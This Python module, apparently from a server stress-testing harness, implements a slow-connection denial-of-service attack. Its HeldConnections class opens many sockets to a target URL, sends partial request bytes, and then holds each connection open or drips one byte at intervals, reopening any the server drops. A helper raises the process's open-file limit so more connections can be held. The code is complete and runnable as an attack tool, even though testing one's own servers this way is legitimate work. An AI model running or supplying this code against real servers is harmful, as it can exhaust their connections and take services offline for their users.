"""Attacks with connections that stay open."""

import resource
import selectors
import socket
import threading
from collections import Counter
from contextlib import suppress
from time import monotonic
from urllib.parse import urlsplit

# How often held connections are read and opened again.
TURN_S = 0.1
# Open files that this process keeps for other purposes.
RESERVED_FILES = 500


class HeldConnections:
    """Keeps a number of connections open, and opens those again that the server closes.

    `first_bytes` are sent at the beginning, the connections in turns. Then a connection sends nothing
    more, or one byte every `drip_s` seconds.
    """

    def __init__(
        self,
        name: str,
        base_url: str,
        count: int,
        first_bytes: list[bytes],
        *,
        per_turn: int,
        drip_s: float | None = None,
    ) -> None:
        self.name = name
        self.requests = 0
        self.statuses: Counter[str] = Counter()
        self.accepted: list[str] = []
        url = urlsplit(base_url)
        self._address = (url.hostname or "127.0.0.1", url.port or 80)
        self._count = count
        self._first_bytes = first_bytes
        self._per_turn = per_turn
        self._drip_s = drip_s

    def run(self, stopping: threading.Event) -> None:
        with selectors.DefaultSelector() as selector:
            try:
                next_drip = monotonic()
                while not stopping.wait(TURN_S):
                    self._open_missing(selector)
                    if self._drip_s is not None and monotonic() >= next_drip:
                        next_drip = monotonic() + self._drip_s
                        self._drip(selector)
                    for key, _ in selector.select(0):
                        self._read(selector, key.fileobj)
            finally:
                for key in list(selector.get_map().values()):
                    self._close(selector, key.fileobj)

    def _open_missing(self, selector: selectors.BaseSelector) -> None:
        for _ in range(min(self._count - len(selector.get_map()), self._per_turn)):
            try:
                sock = socket.create_connection(self._address, timeout=1)
            except OSError:
                self.statuses["none"] += 1
                return
            selector.register(sock, selectors.EVENT_READ)
            with suppress(OSError):
                sock.sendall(self._first_bytes[self.requests % len(self._first_bytes)])
            sock.setblocking(False)
            self.requests += 1

    def _drip(self, selector: selectors.BaseSelector) -> None:
        for key in selector.get_map().values():
            with suppress(OSError):
                key.fileobj.send(b"x")

    def _read(self, selector: selectors.BaseSelector, sock: socket.socket) -> None:
        answer = b""
        with suppress(OSError):
            answer = sock.recv(65536)
        self.statuses[answer[9:12].decode() or "closed"] += 1
        self._close(selector, sock)

    def _close(self, selector: selectors.BaseSelector, sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()


def permit_open_files(connections: int) -> int:
    """Raise the limit of open files of this process; return how many connections it permits, up to this."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    expected = connections + RESERVED_FILES
    limit = expected if hard == resource.RLIM_INFINITY else min(expected, hard)
    if soft != resource.RLIM_INFINITY and soft < limit:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
        soft = limit
    return connections if soft == resource.RLIM_INFINITY else min(connections, soft - RESERVED_FILES)
